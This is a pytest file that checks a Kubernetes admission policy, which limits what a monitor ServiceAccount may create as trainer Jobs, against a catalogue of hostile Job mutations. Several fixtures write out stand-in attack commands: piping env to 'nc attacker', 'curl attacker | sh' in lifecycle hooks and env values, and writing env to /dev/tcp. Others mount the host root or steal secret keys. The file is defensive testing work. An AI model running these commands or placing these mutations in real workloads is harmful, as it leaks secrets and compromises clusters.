"""The trainer ValidatingAdmissionPolicy offline: what the monitor's ServiceAccount may create.

The policy is an allowlist: the admitted Job equals the rendered trainer template except what the
launcher stamps and what the API server defaults. These tests take the exact expressions out of the
rendered chart (matchConditions, variables, validations) and evaluate them with a real CEL
implementation (cel-python) against the exact Job the launcher creates: the trainer-job ConfigMap's
template passed through `services.monitor.launchers.kubernetes.stamp_job`, as sent and with the
server's defaults added. Variables are computed in order and handed to the validations as
`variables`, as the API server does. Each hostile variant (the attack list of a review: lifecycle and
probe exec, added env, another tag, resources, parallelism, suspend, scheduling, DNS, labels, pull
secrets, ...) must be refused by exactly the validations named in HOSTILE. ~7 s. The API server
itself (its typed CEL checker, which refuses mixed-type literals cel-python accepts, the defaulting
before the policy, the binding's namespace match) answers the same catalogue in
tests/cluster/test_admission.py, with the monitor's own token.
"""

from __future__ import annotations

import copy
import functools
from collections.abc import Callable
from dataclasses import dataclass
from types import ModuleType
from typing import Any

import pytest
import yaml

from services.monitor.launchers.kubernetes import stamp_job

from .helpers import KUBE_VERSION, REPO, REQUIRED_SETS, Rendered, find_tool, helm_template, missing, run

NAMESPACE = "cali-housing"  # the namespace the `rendered` fixture renders into
MONITOR_USER = f"system:serviceaccount:{NAMESPACE}:cali-housing-monitor"
POLICY_SUFFIX = f"-trainer-jobs-{NAMESPACE}"
Job = dict[str, Any]


def cel_module() -> ModuleType:
    """cel-python (a dev dependency): skip locally when missing, fail under CI=true, as find_tool does."""
    try:
        import celpy
    except ImportError:
        missing("cel-python not installed: run `make .venv/.installed`")
    return celpy


@functools.cache
def _program(expression: str) -> Any:
    celpy = cel_module()
    env = celpy.Environment()
    return env.program(env.compile(expression))


def evaluate(expression: str, activation: dict[str, Any]) -> bool:
    """One CEL expression; anything but a boolean (an error included) fails the test."""
    celpy = cel_module()
    result = _program(expression).evaluate(activation)
    assert isinstance(result, celpy.celtypes.BoolType), f"{expression!r} gave {result!r}"
    return bool(result)


@dataclass(frozen=True)
class Policy:
    """The CEL parts of the rendered ValidatingAdmissionPolicy."""

    match_conditions: list[str]
    variables: list[tuple[str, str]]
    validations: list[tuple[str, str]]  # (expression, message)

    @classmethod
    def of(cls, doc: dict[str, Any]) -> Policy:
        spec = doc["spec"]
        return cls(
            [m["expression"] for m in spec["matchConditions"]],
            [(v["name"], v["expression"]) for v in spec.get("variables", [])],
            [(v["expression"], v["message"]) for v in spec["validations"]],
        )

    def matches(self, username: str) -> bool:
        celpy = cel_module()
        request = celpy.json_to_cel({"userInfo": {"username": username}, "operation": "CREATE"})
        return all(evaluate(expr, {"request": request}) for expr in self.match_conditions)

    def refusals(self, job: Job) -> dict[str, str]:
        """Validations that refuse `job`, by label (the message up to its colon) -> message."""
        celpy = cel_module()
        activation: dict[str, Any] = {"object": celpy.json_to_cel(job)}
        computed: dict[Any, Any] = {}
        for name, expression in self.variables:
            # Later variables and every validation see the earlier ones under `variables`.
            activation["variables"] = celpy.celtypes.MapType(computed)
            computed[celpy.celtypes.StringType(name)] = _program(expression).evaluate(activation)
        activation["variables"] = celpy.celtypes.MapType(computed)
        return {
            message.split(":", 1)[0]: message
            for expression, message in self.validations
            if not evaluate(expression, activation)
        }


def trainer_template(r: Rendered) -> Job:
    cm = r.one("ConfigMap", "-trainer-job")
    template: Job = yaml.safe_load(cm["data"]["trainer-job.yaml"])
    return template


def stamped(r: Rendered) -> Job:
    """The Job exactly as the monitor creates it."""
    return stamp_job(trainer_template(r), 42)


def policy_doc(r: Rendered) -> dict[str, Any]:
    return r.one("ValidatingAdmissionPolicy", POLICY_SUFFIX)


def pod(job: Job) -> dict[str, Any]:
    spec: dict[str, Any] = job["spec"]["template"]["spec"]
    return spec


def container(job: Job) -> dict[str, Any]:
    first: dict[str, Any] = pod(job)["containers"][0]
    return first


def with_monitor(rendered: dict[str, Rendered]) -> list[Rendered]:
    return [r for r in rendered.values() if has_monitor(r)]


def has_monitor(r: Rendered) -> bool:
    return any(d["metadata"]["name"].endswith("-monitor") for d in r.kind("CronJob"))


# --- hostile variants: each takes the stamped Job and makes it into something the monitor must not create


def other_image(job: Job) -> None:
    container(job)["image"] = "docker.io/library/busybox:1.36"


def lookalike_image(job: Job) -> None:
    image = container(job)["image"]
    repository, tag = image.rsplit(":", 1)
    container(job)["image"] = f"{repository}-debug:{tag}"


def release_label_dropped(job: Job) -> None:
    # Selected by no NetworkPolicy of the release, so by no default deny either.
    del job["spec"]["template"]["metadata"]["labels"]["housing.io/release"]


def posing_as_inference(job: Job) -> None:
    job["spec"]["template"]["metadata"]["labels"]["app.kubernetes.io/component"] = "inference"


def other_command(job: Job) -> None:
    container(job)["command"] = ["sh", "-c", "env | nc attacker 4444"]


def other_service_account(job: Job) -> None:
    pod(job)["serviceAccountName"] = "cali-housing-monitor"


def no_service_account(job: Job) -> None:
    # Pods of a template without one run as the namespace's "default" ServiceAccount.
    del pod(job)["serviceAccountName"]


def deprecated_service_account(job: Job) -> None:
    pod(job)["serviceAccount"] = "default"


def token_mounted(job: Job) -> None:
    pod(job)["automountServiceAccountToken"] = True


def privileged(job: Job) -> None:
    # With allowPrivilegeEscalation false the API server refuses the Job as invalid before any policy.
    container(job)["securityContext"]["privileged"] = True
    container(job)["securityContext"]["allowPrivilegeEscalation"] = True


def privilege_escalation(job: Job) -> None:
    container(job)["securityContext"]["allowPrivilegeEscalation"] = True


def run_as_root_allowed(job: Job) -> None:
    container(job)["securityContext"]["runAsNonRoot"] = False


def no_run_as_non_root(job: Job) -> None:
    pod(job)["securityContext"].pop("runAsNonRoot", None)
    container(job)["securityContext"].pop("runAsNonRoot", None)


def run_as_uid_0(job: Job) -> None:
    pod(job)["securityContext"]["runAsUser"] = 0


def host_path(job: Job) -> None:
    pod(job)["volumes"].append({"name": "host", "hostPath": {"path": "/"}})
    container(job)["volumeMounts"].append({"name": "host", "mountPath": "/host"})


def config_map_volume(job: Job) -> None:
    pod(job)["volumes"].append({"name": "kube-config", "configMap": {"name": "cluster-info"}})


def host_network(job: Job) -> None:
    pod(job)["hostNetwork"] = True


def host_pid(job: Job) -> None:
    pod(job)["hostPID"] = True


def sys_admin(job: Job) -> None:
    container(job)["securityContext"]["capabilities"]["add"] = ["SYS_ADMIN"]


def other_secret(job: Job) -> None:
    ref = next(e for e in container(job)["env"] if e["name"] == "DATABASE_URL")["valueFrom"]["secretKeyRef"]
    ref["name"] = "argocd-repo-creds"


def other_secret_key(job: Job) -> None:
    container(job)["env"].append(
        {
            "name": "STOLEN",
            "valueFrom": {"secretKeyRef": {"name": secret_name(job), "key": "TELEGRAM_BOT_TOKEN"}},
        }
    )


def env_from_secret(job: Job) -> None:
    container(job)["envFrom"] = [{"secretRef": {"name": secret_name(job)}}]


def init_container(job: Job) -> None:
    # The trainer's own image and security context: only the init container itself is wrong.
    pod(job)["initContainers"] = [{**copy.deepcopy(container(job)), "name": "setup"}]


def secret_name(job: Job) -> str:
    ref = next(e for e in container(job)["env"] if e["name"] == "DATABASE_URL")["valueFrom"]["secretKeyRef"]
    name: str = ref["name"]
    return name


def post_start_exec(job: Job) -> None:
    container(job)["lifecycle"] = {"postStart": {"exec": {"command": ["sh", "-c", "curl attacker | sh"]}}}


def liveness_probe_exec(job: Job) -> None:
    container(job)["livenessProbe"] = {"exec": {"command": ["sh", "-c", "env > /dev/tcp/attacker/80"]}}


def extra_env(name: str, value: str) -> Callable[[Job], None]:
    def mutate(job: Job) -> None:
        container(job)["env"].append({"name": name, "value": value})

    mutate.__name__ = f"env_{name.lower()}"
    return mutate


def mlflow_elsewhere(job: Job) -> None:
    # Not added but changed: the registry the trainer writes to moves to the monitor's choice.
    env = next(e for e in container(job)["env"] if e["name"] == "MLFLOW_TRACKING_URI")
    env["value"] = "http://attacker.example:5000"


def older_image_tag(job: Job) -> None:
    repository = container(job)["image"].rsplit(":", 1)[0]
    container(job)["image"] = f"{repository}:an-older-unreviewed-build"


def image_by_other_digest(job: Job) -> None:
    repository = container(job)["image"].rsplit(":", 1)[0]
    container(job)["image"] = f"{repository}@sha256:{'0' * 64}"


def no_resources(job: Job) -> None:
    del container(job)["resources"]


def huge_requests(job: Job) -> None:
    container(job)["resources"] = {
        "requests": {"cpu": "64", "memory": "512Gi"},
        "limits": {"cpu": "64", "memory": "512Gi"},
    }


def parallelism_1000(job: Job) -> None:
    job["spec"]["parallelism"] = 1000


def completions_1000(job: Job) -> None:
    job["spec"]["completions"] = 1000


def suspended(job: Job) -> None:
    job["spec"]["suspend"] = True
    del job["spec"]["activeDeadlineSeconds"]


def longer_deadline(job: Job) -> None:
    job["spec"]["activeDeadlineSeconds"] = 10 * 86_400


def no_deadline(job: Job) -> None:
    del job["spec"]["activeDeadlineSeconds"]


def longer_ttl(job: Job) -> None:
    job["spec"]["ttlSecondsAfterFinished"] = 365 * 86_400


def more_retries(job: Job) -> None:
    job["spec"]["backoffLimit"] = 100


def managed_elsewhere(job: Job) -> None:
    # The built-in Job controller then leaves the Job to whatever controller claims this name.
    job["spec"]["managedBy"] = "example.com/other-controller"


def control_plane_tolerations(job: Job) -> None:
    pod(job)["tolerations"] = [
        {"key": "node-role.kubernetes.io/control-plane", "operator": "Exists", "effect": "NoSchedule"}
    ]


def node_selector(job: Job) -> None:
    pod(job)["nodeSelector"] = {"node-role.kubernetes.io/control-plane": ""}


def system_priority(job: Job) -> None:
    pod(job)["priorityClassName"] = "system-node-critical"


def dns_elsewhere(job: Job) -> None:
    pod(job)["dnsPolicy"] = "None"
    pod(job)["dnsConfig"] = {"nameservers": ["203.0.113.53"]}


def host_aliases(job: Job) -> None:
    pod(job)["hostAliases"] = [{"ip": "203.0.113.7", "hostnames": ["cali-housing-mlflow"]}]


def writable_root(job: Job) -> None:
    container(job)["securityContext"]["readOnlyRootFilesystem"] = False


def extra_pod_label(job: Job) -> None:
    job["spec"]["template"]["metadata"]["labels"]["app.kubernetes.io/component-extra"] = "inference"


def pod_annotation(job: Job) -> None:
    job["spec"]["template"]["metadata"]["annotations"] = {
        "container.apparmor.security.beta.kubernetes.io/trainer": "unconfined"
    }


def pull_secrets(job: Job) -> None:
    pod(job)["imagePullSecrets"] = [{"name": secret_name(job)}]


def extra_container(job: Job) -> None:
    pod(job)["containers"].append({**copy.deepcopy(container(job)), "name": "sidecar"})


def args_added(job: Job) -> None:
    container(job)["args"] = ["--help"]


def working_dir(job: Job) -> None:
    container(job)["workingDir"] = "/var/lib/housing"


HOSTILE: list[tuple[Callable[[Job], None], set[str]]] = [
    (other_image, {"image refused"}),
    (lookalike_image, {"image refused"}),
    (older_image_tag, {"image refused"}),
    (image_by_other_digest, {"image refused"}),
    (other_command, {"command refused"}),
    (args_added, {"command refused"}),
    (release_label_dropped, {"pod labels refused"}),
    (posing_as_inference, {"pod labels refused"}),
    (extra_pod_label, {"pod labels refused"}),
    (pod_annotation, {"pod annotations refused"}),
    (other_service_account, {"serviceAccountName refused"}),
    (no_service_account, {"serviceAccountName refused"}),
    (deprecated_service_account, {"serviceAccountName refused"}),
    (token_mounted, {"automountServiceAccountToken refused"}),
    (privileged, {"container securityContext refused"}),
    (privilege_escalation, {"container securityContext refused"}),
    (run_as_root_allowed, {"container securityContext refused"}),
    (writable_root, {"container securityContext refused"}),
    (sys_admin, {"container securityContext refused"}),
    (no_run_as_non_root, {"pod securityContext refused", "container securityContext refused"}),
    (run_as_uid_0, {"pod securityContext refused"}),
    (host_path, {"volumes refused", "volumeMounts refused"}),
    (config_map_volume, {"volumes refused"}),
    (host_network, {"pod fields refused"}),
    (host_pid, {"pod fields refused"}),
    (other_secret, {"env refused"}),
    (other_secret_key, {"env refused"}),
    (env_from_secret, {"env refused"}),
    (extra_env("PYTHONWARNINGS", "ignore::antigravity.x"), {"env refused"}),
    (extra_env("BROWSER", "sh -c 'curl attacker | sh' #%s"), {"env refused"}),
    (extra_env("GATE_MIN_R2", "-1e9"), {"env refused"}),
    (extra_env("MLFLOW_TRACKING_URI", "http://attacker.example:5000"), {"env refused"}),
    (mlflow_elsewhere, {"env refused"}),
    (init_container, {"initContainers refused"}),
    (extra_container, {"containers refused"}),
    (post_start_exec, {"lifecycle and probes refused"}),
    (liveness_probe_exec, {"lifecycle and probes refused"}),
    (no_resources, {"resources refused"}),
    (huge_requests, {"resources refused"}),
    (parallelism_1000, {"parallelism refused"}),
    (completions_1000, {"parallelism refused"}),
    (suspended, {"suspend refused", "activeDeadlineSeconds refused"}),
    (longer_deadline, {"activeDeadlineSeconds refused"}),
    (no_deadline, {"activeDeadlineSeconds refused"}),
    (longer_ttl, {"ttlSecondsAfterFinished refused"}),
    (more_retries, {"backoffLimit refused"}),
    (managed_elsewhere, {"job fields refused"}),
    (control_plane_tolerations, {"scheduling refused"}),
    (node_selector, {"scheduling refused"}),
    (system_priority, {"scheduling refused"}),
    (dns_elsewhere, {"DNS refused"}),
    (host_aliases, {"DNS refused"}),
    (pull_secrets, {"imagePullSecrets refused"}),
    (working_dir, {"container fields refused"}),
]


def test_every_scenario_with_a_monitor_renders_the_policy(rendered: dict[str, Rendered]) -> None:
    for r in rendered.values():
        monitor = has_monitor(r)
        assert bool(r.kind("ValidatingAdmissionPolicy")) is monitor, r.name
        assert bool(r.kind("ValidatingAdmissionPolicyBinding")) is monitor, r.name
    assert not rendered["ci/minimal-values.yaml"].kind("ValidatingAdmissionPolicy"), "no monitor, no policy"


@pytest.mark.parametrize(("mutate", "expected"), HOSTILE, ids=[m.__name__ for m, _ in HOSTILE])
def test_hostile_job_is_refused_by_the_validation_that_names_it(
    rendered: dict[str, Rendered], mutate: Callable[[Job], None], expected: set[str]
) -> None:
    r = rendered["prod"]
    job = stamped(r)
    mutate(job)
    refused = Policy.of(policy_doc(r)).refusals(job)
    assert set(refused) == expected, refused


def test_the_stamped_job_is_admitted_as_sent_and_as_the_server_defaults_it(
    rendered: dict[str, Rendered],
) -> None:
    r = rendered["prod"]
    policy = Policy.of(policy_doc(r))
    job = stamped(r)
    assert policy.refusals(job) == {}
    # What the API server adds before any policy runs (measured with --dry-run=server on 1.37):
    # the allowlist must admit those defaults too, and tests/cluster checks it on the real server.
    defaulted = copy.deepcopy(job)
    defaulted["spec"].update(
        completionMode="NonIndexed",
        completions=1,
        parallelism=1,
        manualSelector=False,
        suspend=False,
        podReplacementPolicy="TerminatingOrFailed",
        selector={"matchLabels": {"batch.kubernetes.io/controller-uid": "uid"}},
    )
    defaulted["spec"]["template"]["metadata"]["labels"].update(
        {
            "batch.kubernetes.io/controller-uid": "uid",
            "batch.kubernetes.io/job-name": "j",
            "controller-uid": "uid",
            "job-name": "j",
        }
    )
    pod(defaulted).update(
        dnsPolicy="ClusterFirst",
        schedulerName="default-scheduler",
        terminationGracePeriodSeconds=30,
        serviceAccount=pod(job)["serviceAccountName"],
    )
    container(defaulted).update(
        terminationMessagePath="/dev/termination-log", terminationMessagePolicy="File"
    )
    assert policy.refusals(defaulted) == {}


def test_refusal_messages_say_what_is_allowed(rendered: dict[str, Rendered]) -> None:
    r = rendered["prod"]
    messages = {m.split(":", 1)[0]: m for _, m in Policy.of(policy_doc(r)).validations}
    job = stamped(r)
    assert container(job)["image"] in messages["image refused"]
    assert pod(job)["serviceAccountName"] in messages["serviceAccountName refused"]
    assert "3600" in messages["activeDeadlineSeconds refused"]
    assert '"memory":"1536Mi"' in messages["resources refused"]
    assert "housing-home" in messages["volumes refused"]
    assert len(messages) == len(Policy.of(policy_doc(r)).validations), "one message per validation"


def test_the_policy_applies_to_the_monitor_only(rendered: dict[str, Rendered]) -> None:
    policy = Policy.of(policy_doc(rendered["prod"]))
    assert policy.matches(MONITOR_USER)
    for user in (
        "system:serviceaccount:argocd:argocd-application-controller",
        "system:serviceaccount:kube-system:cronjob-controller",
        f"system:serviceaccount:{NAMESPACE}:cali-housing-trainer",
        "system:serviceaccount:other-namespace:cali-housing-monitor",
        "kubernetes-admin",
    ):
        assert not policy.matches(user), user


def test_policy_and_binding_shape(rendered: dict[str, Rendered]) -> None:
    r = rendered["prod"]
    doc = policy_doc(r)
    spec = doc["spec"]
    assert doc["apiVersion"] == "admissionregistration.k8s.io/v1"
    assert spec["failurePolicy"] == "Fail"
    (rule,) = spec["matchConstraints"]["resourceRules"]
    assert rule["apiGroups"] == ["batch"] and rule["apiVersions"] == ["v1"]
    assert rule["resources"] == ["jobs"] and set(rule["operations"]) == {"CREATE", "UPDATE"}
    assert len(spec["validations"]) >= 12
    binding = r.one("ValidatingAdmissionPolicyBinding", POLICY_SUFFIX)
    assert binding["spec"]["policyName"] == doc["metadata"]["name"]
    assert binding["spec"]["validationActions"] == ["Deny"]
    assert binding["spec"]["matchResources"] == {
        "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": NAMESPACE}}
    }
    for obj in (doc, binding):
        labels = obj["metadata"]["labels"]
        assert labels["app.kubernetes.io/part-of"] == "cali-housing"
        assert labels["app.kubernetes.io/component"] == "trainer"


def test_policy_name_is_per_namespace(tool: Callable[[str], str]) -> None:
    # Cluster-scoped: a staging and a prod release in one cluster must not share (and fight over) it.
    proc = helm_template(tool("helm"), REQUIRED_SETS, namespace="cali-housing-staging")
    assert proc.returncode == 0, proc.stderr
    docs = [d for d in yaml.safe_load_all(proc.stdout) if d]
    (vap,) = [d for d in docs if d["kind"] == "ValidatingAdmissionPolicy"]
    assert vap["metadata"]["name"].endswith("-cali-housing-staging")
    (condition,) = vap["spec"]["matchConditions"]
    assert "system:serviceaccount:cali-housing-staging:cali-housing-monitor" in condition["expression"]


def test_policy_can_be_turned_off(tool: Callable[[str], str]) -> None:
    proc = helm_template(tool("helm"), [*REQUIRED_SETS, "--set", "trainer.admissionPolicy.enabled=false"])
    assert proc.returncode == 0, proc.stderr
    assert "ValidatingAdmissionPolicy" not in proc.stdout


def test_policy_objects_match_the_kubernetes_schema(rendered: dict[str, Rendered]) -> None:
    find_tool("kubernetes-validate")
    r = rendered["prod"]
    docs = [policy_doc(r), r.one("ValidatingAdmissionPolicyBinding", POLICY_SUFFIX)]
    proc = run(["bash", "ci/k8s-validate.sh", KUBE_VERSION, "-"], stdin=yaml.safe_dump_all(docs))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    # The check can fail: a misspelt field is refused by the strict schema.
    broken = copy.deepcopy(docs[0])
    broken["spec"]["validations"][0]["mesage"] = broken["spec"]["validations"][0].pop("message")
    proc = run(["bash", "ci/k8s-validate.sh", KUBE_VERSION, "-"], stdin=yaml.safe_dump(broken))
    assert proc.returncode != 0, proc.stdout


def test_argocd_project_may_sync_every_rendered_kind(rendered: dict[str, Rendered]) -> None:
    # The policy is cluster-scoped: without a clusterResourceWhitelist entry Argo CD refuses the sync.
    project = yaml.safe_load((REPO / "argocd" / "project.yaml").read_text())["spec"]
    cluster = {(k["group"], k["kind"]) for k in project["clusterResourceWhitelist"]}
    namespaced = {(k["group"], k["kind"]) for k in project["namespaceResourceWhitelist"]}
    for env in ("staging", "prod"):
        for doc in rendered[env].docs:
            group = doc["apiVersion"].rpartition("/")[0]
            allowed = namespaced if doc["metadata"].get("namespace") else cluster
            assert (group, doc["kind"]) in allowed, (env, doc["kind"], doc["metadata"]["name"])
